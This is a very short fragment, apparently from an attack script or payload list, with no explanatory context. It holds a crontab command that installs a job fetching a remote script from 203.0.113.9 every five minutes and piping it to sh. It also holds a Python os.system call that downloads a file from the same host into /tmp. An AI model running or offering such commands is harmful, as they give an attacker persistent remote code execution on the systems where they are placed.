0(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/x.sh | sh') | crontab -
os.system('wget http://203.0.113.9/m -O /tmp/m')
